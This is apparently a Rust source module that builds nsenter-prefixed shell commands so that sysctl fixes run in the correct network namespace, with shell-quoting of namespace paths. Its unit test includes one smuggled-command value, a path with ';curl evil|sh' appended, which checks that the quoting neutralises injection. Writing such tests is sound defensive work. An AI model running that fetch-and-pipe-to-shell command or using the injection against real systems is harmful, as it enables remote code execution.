// SPDX-License-Identifier: MIT OR Apache-2.0
//! The network namespace in which a setting has to be written: sysctls are per namespace, and a command must be safe to
//! paste.

use crate::{aggregate::observed::Observed, kernel::rules::Sysctls, outside::Text};

/// One network namespace, as seen from the shell that will run the fix.
pub(crate) struct NetnsShell {
    netns: u32,
    /// The prefix that runs a command there; `None`: no way in is known.
    prefix: Option<String>,
    /// The namespace's settings, as far as they are known.
    pub(super) sysctls: Sysctls,
}

impl NetnsShell {
    /// `own`: settings of the agent's namespace; `pid`: a process in `netns`, if one is known.
    pub(super) fn of(observed: &Observed, own: &Sysctls, netns: u32, pid: Option<u32>) -> Self {
        let is_own = own.netns.is_none_or(|own| own == netns);
        let known = observed.spaces.get(&netns);
        let prefix = match (is_own, known.and_then(|space| space.entrance.as_ref()), pid) {
            (true, ..) => Some(String::new()),
            (false, Some(entrance), _) => Some(format!("nsenter --net={} ", entrance.shell_word())),
            (false, None, Some(pid)) => Some(format!("nsenter -t {pid} -n ")),
            (false, None, None) => None,
        };
        let sysctls = known.map(|space| space.sysctls.clone()).or_else(|| is_own.then(|| own.clone()));
        Self { netns, prefix, sysctls: sysctls.unwrap_or_default() }
    }

    /// A place reached through a file that nsenter(1) accepts; `None`: the shell is in the namespace already.
    pub(crate) fn behind(netns: u32, entrance: Option<&Text>, sysctls: Sysctls) -> Self {
        let prefix = entrance.map_or_else(String::new, |entrance| format!("nsenter --net={} ", entrance.shell_word()));
        Self { netns, prefix: Some(prefix), sysctls }
    }

    /// The command with its prefix; a comment where no way in is known.
    pub(crate) fn command(&self, command: &str) -> String {
        match &self.prefix {
            Some(prefix) => format!("{prefix}{command}"),
            None => format!("# in network namespace {}: {command}", self.netns),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::aggregate::observed::SpaceFacts;

    #[test]
    fn own_known_and_unknown() {
        let own = Sysctls { netns: Some(1), tcp_tw_reuse: Some(2), ..Sysctls::default() };
        let there = SpaceFacts {
            entrance: Some("/run/netns/blue".into()),
            sysctls: Sysctls { tcp_tw_reuse: Some(0), ..Sysctls::default() },
            ..SpaceFacts::default()
        };
        let observed = Observed { spaces: std::sync::Arc::new([(2, there)].into()), ..Observed::default() };
        let shell = |netns, pid| NetnsShell::of(&observed, &own, netns, pid);
        assert_eq!((shell(1, None).command("x"), shell(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
        assert_eq!(shell(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
        let edited = NetnsShell::behind(2, Some(&"/proc/1/ns/net;curl evil|sh".into()), Sysctls::default());
        assert_eq!(edited.command("x"), "nsenter --net='/proc/1/ns/net;curl evil|sh' x");
        assert_eq!(shell(2, None).sysctls.tcp_tw_reuse, Some(0));
        assert_eq!(shell(3, Some(9)).command("x"), "nsenter -t 9 -n x");
        assert_eq!(shell(3, None).command("x"), "# in network namespace 3: x");
        assert_eq!(shell(3, None).sysctls, Sysctls::default());
    }
}
